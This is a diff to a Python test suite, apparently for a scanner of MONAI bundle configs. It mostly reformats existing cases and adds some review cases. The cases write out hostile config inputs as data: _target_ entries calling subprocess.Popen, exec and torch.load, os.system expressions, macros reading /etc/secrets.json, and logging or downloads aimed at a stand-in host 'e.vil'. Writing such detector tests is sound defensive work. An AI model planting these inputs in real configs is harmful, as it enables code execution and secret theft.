@@ -52,9 +52,16 @@ class Payload:
 
 POPEN = {"args": ["touch", CANARY]}
 # -- targets
-config_case("target_in_the_standard_library", "target-denied", {"x": {"_target_": "subprocess.Popen", **POPEN}}, live=True)
+config_case(
+    "target_in_the_standard_library", "target-denied", {"x": {"_target_": "subprocess.Popen", **POPEN}}, live=True
+)
 config_case("target_builtin", "target-denied", {"x": {"_target_": "exec", "_mode_": "callable"}})
-config_case("target_builtin_dotted", "target-denied", {"x": {"_target_": "builtins.open", "file": CANARY, "mode": "w"}}, live=True)
+config_case(
+    "target_builtin_dotted",
+    "target-denied",
+    {"x": {"_target_": "builtins.open", "file": CANARY, "mode": "w"}},
+    live=True,
+)
 config_case(
     "target_through_an_alias_in_monai",
     "target-denied",
@@ -62,13 +69,21 @@ config_case(
     live=True,
 )
 config_case("target_through_torch", "target-denied", {"x": {"_target_": "torch.os.mkdir", "path": CANARY}}, live=True)
-config_case("target_that_locates", "target-denied", {"x": {"_target_": "monai.transforms.io.array.locate", "path": "this"}})
+config_case(
+    "target_that_locates", "target-denied", {"x": {"_target_": "monai.transforms.io.array.locate", "path": "this"}}
+)
 config_case("target_with_empty_parts", "target-unknown", {"x": {"_target_": ".subprocess..Popen", **POPEN}}, live=True)
 config_case("target_short_name_of_a_runner", "target-denied", {"x": {"_target_": "run", "config_file": "evil.json"}})
-config_case("target_runs_a_command", "target-denied", {"x": {"_target_": "run_cmd", "cmd_list": ["touch", CANARY]}}, live=True)
-config_case("target_loads_a_pickle", "target-denied", {"x": {"_target_": "torch.load", "f": "evil.pt", "weights_only": False}})
+config_case(
+    "target_runs_a_command", "target-denied", {"x": {"_target_": "run_cmd", "cmd_list": ["touch", CANARY]}}, live=True
+)
+config_case(
+    "target_loads_a_pickle", "target-denied", {"x": {"_target_": "torch.load", "f": "evil.pt", "weights_only": False}}
+)
 config_case("target_from_a_hub", "target-denied", {"x": {"_target_": "torch.hub.load", "repo_or_dir": "evil/evil"}})
-config_case("target_downloads", "target-denied", {"x": {"_target_": "monai.apps.download_and_extract", "url": "http://e.vil"}})
+config_case(
+    "target_downloads", "target-denied", {"x": {"_target_": "monai.apps.download_and_extract", "url": "http://e.vil"}}
+)
 config_case("target_is_a_module", "target-module", {"x": {"_target_": "monai.apps.detection.utils"}})
 config_case("target_runs_on_import", "target-denied", {"x": {"_target_": "torch.utils.bottleneck.__main__"}})
 config_case("target_elsewhere", "target-outside", {"x": {"_target_": "evilpackage.Network"}})
@@ -85,7 +100,12 @@ config_case(
     {"names": {"a": "subprocess.Popen"}, "x": {"_target_": "%names#a", **POPEN}},
     live=True,
 )
-config_case("target_by_override_key", "target-denied", {"x": {"args": ["touch", CANARY]}, "x#_target_": "subprocess.Popen"}, live=True)
+config_case(
+    "target_by_override_key",
+    "target-denied",
+    {"x": {"args": ["touch", CANARY]}, "x#_target_": "subprocess.Popen"},
+    live=True,
+)
 config_case("target_disabled", "target-denied", {"x": {"_target_": "subprocess.Popen", "_disabled_": True, **POPEN}})
 # -- what MONAI's own classes load by name
 config_case(
@@ -94,7 +114,12 @@ config_case(
     {"x": {"_target_": "LoadImage", "reader": "subprocess.Popen", **POPEN}},
     live=True,
 )
-config_case("reader_by_reference", "named-class", {"r": ["subprocess.Popen"], "x": {"_target_": "LoadImage", "reader": "@r", **POPEN}}, live=True)
+config_case(
+    "reader_by_reference",
+    "named-class",
+    {"r": ["subprocess.Popen"], "x": {"_target_": "LoadImage", "reader": "@r", **POPEN}},
+    live=True,
+)
 config_case(
     "reader_by_expression",
     "named-class",
@@ -113,9 +138,15 @@ config_case("mode_debug", "mode-debug", {"x": {"_target_": "UNet", "_mode_": "de
 config_case("mode_debug_with_blanks", "mode-debug", {"x": {"_target_": "UNet", "_mode_": " debug "}})
 config_case("mode_computed", "mode-debug", {"x": {"_target_": "UNet", "_mode_": "$'de' + 'bug'"}})
 config_case("debug_argument", "mode-debug", {"x": {"_target_": "UNet", "_debug_": True}})
-config_case("requires_with_code", "expression-name", {"x": {"_target_": "Identity", "_requires_": f"${TOUCH}"}}, live=True)
-config_case("disabled_with_code", "expression-name", {"x": {"_target_": "Identity", "_disabled_": f"${TOUCH}"}}, live=True)
-config_case("description_with_code", "expression-name", {"x": {"_target_": "Identity", "_desc_": f"${TOUCH}"}}, live=True)
+config_case(
+    "requires_with_code", "expression-name", {"x": {"_target_": "Identity", "_requires_": f"${TOUCH}"}}, live=True
+)
+config_case(
+    "disabled_with_code", "expression-name", {"x": {"_target_": "Identity", "_disabled_": f"${TOUCH}"}}, live=True
+)
+config_case(
+    "description_with_code", "expression-name", {"x": {"_target_": "Identity", "_desc_": f"${TOUCH}"}}, live=True
+)
 # -- expressions
 EXPRESSIONS = {
     "import": ("expression-name", f"__import__('os').system('{SYSTEM}')", True),
@@ -148,11 +179,23 @@ EXPRESSIONS = {
 }  # fmt: skip
 for _name, (_code, _text, _live) in EXPRESSIONS.items():
     config_case(f"expression_{_name}", _code, {"f": 1, "x": f"${_text}"}, live=_live)
-config_case("import_of_os_as_torch", "expression-import", {"i": "$import os as torch", "x": f"$torch.system('{SYSTEM}')"}, live=True)
+config_case(
+    "import_of_os_as_torch",
+    "expression-import",
+    {"i": "$import os as torch", "x": f"$torch.system('{SYSTEM}')"},
+    live=True,
+)
 config_case("import_of_subprocess", "expression-import", {"i": "$import subprocess"})
-config_case("import_of_a_function", "expression-import", {"i": "$from os import system", "x": f"$system('{SYSTEM}')"}, live=True)
+config_case(
+    "import_of_a_function", "expression-import", {"i": "$from os import system", "x": f"$system('{SYSTEM}')"}, live=True
+)
 config_case("import_that_hides_one", "expression-import", {"i": "$import math, subprocess"})
-config_case("reference_to_an_import", "reference-import", {"i": ["$import torch"], "x": f"$@i#0.os.system('{SYSTEM}')"}, live=True)
+config_case(
+    "reference_to_an_import",
+    "reference-import",
+    {"i": ["$import torch"], "x": f"$@i#0.os.system('{SYSTEM}')"},
+    live=True,
+)
 config_case("reference_above_the_root", "reference-outside", {"x": {"y": "@####z"}})
 config_case("macro_to_another_file", "macro-outside", {"x": "%/etc/secrets.json#key"})
 config_case("macro_with_dots", "macro-outside", {"x": "%../other/configs/train.json"})
@@ -272,7 +315,10 @@ def config_not_in_utf8() -> Files:
 
 @case("config-syntax")
 def number_of_a_million_digits() -> Files:
-    return {**make_files(), "configs/digits.json": b'{"x": 1' + bytes(random.Random(0).choices(b"123456789", k=900_000)) + b"}"}
+    return {
+        **make_files(),
+        "configs/digits.json": b'{"x": 1' + bytes(random.Random(0).choices(b"123456789", k=900_000)) + b"}",
+    }
 
 
 # -- hidden code
@@ -413,6 +459,38 @@ for _path, (_code, _content) in PRIVATE.items():
 config_case("absolute_path_in_a_config", "absolute-path", {"dataset_dir": "/workspace/data"})
 
 
+# -- what a person must look at
+config_case("argument_that_is_a_program", "code-path", {"x": {"_target_": "CSVSaver", "filename": "sitecustomize.py"}})
+config_case("address_in_a_config", "url-in-config", {"x": {"_target_": "CSVDataset", "src": "https://e.vil/x.csv"}})
+config_case("class_that_deletes", "target-review", {"x": {"_target_": "PersistentDataset", "cache_dir": "data"}})
+config_case("weights_of_others", "download-argument", {"x": {"_target_": "DenseNet121", "pretrained": True}})
+config_case("macro_to_a_file", "macro-file", {"x": "%configs/train.json#run"})
+config_case("files_of_the_receiver", "expression-review", {"i": "$import glob", "x": "$glob.glob('/etc/*')"})
+
+
+@case("logging-review")
+def logging_over_the_network() -> Files:
+    text = LOGGING.replace("class=StreamHandler", "class=handlers.HTTPHandler")
+    text = text.replace("handlers.HTTPHandler", "logging.handlers.HTTPHandler").replace(
+        "(sys.stdout,)", "('e.vil', '/')"
+    )
+    return {**make_files(), "configs/logging.conf": text.encode()}
+
+
+@case("metadata-field")
+def metadata_without_a_use() -> Files:
+    return make_files(metadata={"intended_use": ""})
+
+
+@case("weights-damaged")
+def weights_with_two_pickles() -> Files:
+    content = zip_members(data_pkl=pickle.dumps({}, protocol=2), DATA_PKL=b"x")
+    return {
+        **make_files(),
+        "models/model.pt": content.replace(b"DATA.pkl", b"DATA.PKL").replace(b"DATA_PKL", b"DATA.PKL"),
+    }
+
+
 # -- wheels
 def make_wheel(**members: bytes) -> bytes:
     stream = io.BytesIO()
@@ -431,6 +509,12 @@ def wheel_of_another_package() -> Files:
 def wheel_with_a_stranger() -> Files:
     content = make_wheel(pipeline__issues_py=b"", sitecustomize_py=TOUCH.encode())
     return {**make_files(), "monai_segmentation_suite-0.1.0-py3-none-any.whl": content}
+
+
+@case("wheel-version")
+def wheel_of_another_version() -> Files:
+    content = make_wheel(pipeline__issues_py=b"")
+    return {**make_files(), "monai_segmentation_suite-99.0-py3-none-any.whl": content}
 
 
 @case("wheel-differs")
